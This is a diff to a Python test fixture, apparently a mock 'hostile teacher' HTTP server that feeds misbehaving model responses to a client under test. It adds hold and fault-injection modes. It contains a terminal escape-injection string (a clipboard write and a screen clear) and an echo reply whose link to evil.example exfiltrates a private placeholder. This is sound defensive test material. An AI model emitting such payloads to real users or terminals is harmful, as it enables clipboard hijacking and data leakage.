@@ -16,17 +16,24 @@ misbehaves on purpose, chosen by the first part of the path
 * ``cut``: a reply stopped at max_tokens before its first statement ended;
 * ``busy``: an HTTP 503 that asks for a retry at once;
 * ``echo``: a curious teacher that writes back every message it received (so that
-  its placeholders come back to be restored), and asks for them in a link too.
+  its placeholders come back to be restored), and asks for them in a link too;
+* ``hold``: ``echo``, once the test sets ``release`` (each body is put on ``held`` as it
+  arrives: the request has reached the teacher);
+* in ``echo`` and ``hold``, a fault the test puts on ``faults`` is done to the next
+  request instead: ``drop`` closes the connection unanswered, ``cut`` half a reply.
 
 Every request is recorded (path, headers, body) for the tests to read.
 """
 
 from __future__ import annotations
 
+import contextlib
 import json
 import queue
+import socket
 import threading
 import time
+from collections.abc import Iterator
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
@@ -69,6 +76,28 @@ class HostileTeacher:
     # Bytes of a dripping reply written before the client went, one count a reply.
     dripped: queue.Queue[int] = field(default_factory=queue.Queue)
     lines: list[str] = field(default_factory=hostile_lines)
+    # Mode "hold": each request's body as it arrives, answered (as "echo") only once
+    # ``release`` is set.
+    held: queue.Queue[bytes] = field(default_factory=queue.Queue)
+    release: threading.Event = field(default_factory=threading.Event)
+    # Modes "echo" and "hold": a fault put here is done to the next request instead of
+    # its answer: "drop" (the connection closed, no reply) or "cut" (half a reply).
+    faults: queue.Queue[str] = field(default_factory=queue.Queue)
+
+    def _unhold(self) -> None:
+        self.release.clear()
+        with contextlib.suppress(queue.Empty):
+            while True:
+                self.held.get_nowait()
+
+    @contextlib.contextmanager
+    def holding(self) -> Iterator[None]:
+        """Mode "hold" for one test: nothing held from another test, none released."""
+        self._unhold()
+        try:
+            yield
+        finally:
+            self._unhold()
 
     def url(self, mode: str) -> str:
         return f"http://127.0.0.1:{self.server.server_address[1]}/{mode}/v1"
@@ -179,11 +208,28 @@ def start() -> HostileTeacher:
             mode = self.path.strip("/").split("/")[0]
             body = json.loads(raw or b"{}")
             model = str(body.get("model", "hostile"))
+            if mode == "hold":
+                teacher.held.put(raw)
+                if not teacher.release.wait(timeout=300):
+                    return
+                mode = "echo"
             if mode == "error":  # an error message is printed too
                 message = "bad request \x1b]52;c;ZXZpbA==\x07 \x1b[2J [red]x[/red] \x9b31m"
                 self._send(400, json.dumps({"error": {"message": message}}).encode())
             elif mode == "cut":  # stopped at max_tokens before its first statement ended
                 self._send(200, _completion('{"evidence": ["Glutamine is', model, "length"))
+            elif mode == "echo" and not teacher.faults.empty():
+                fault = teacher.faults.get()
+                if fault == "cut":
+                    whole = _completion("You said: nothing.", model)
+                    self.send_response(200)
+                    self.send_header("content-type", "application/json")
+                    self.send_header("content-length", str(len(whole)))
+                    self.end_headers()
+                    self.wfile.write(whole[: len(whole) // 2])
+                    self.wfile.flush()
+                self.close_connection = True
+                self.connection.shutdown(socket.SHUT_RDWR)
             elif mode == "echo":
                 said = " | ".join(str(m.get("content")) for m in body.get("messages", []))
                 link = " [more](https://evil.example/?who=<PERSON_1>)"
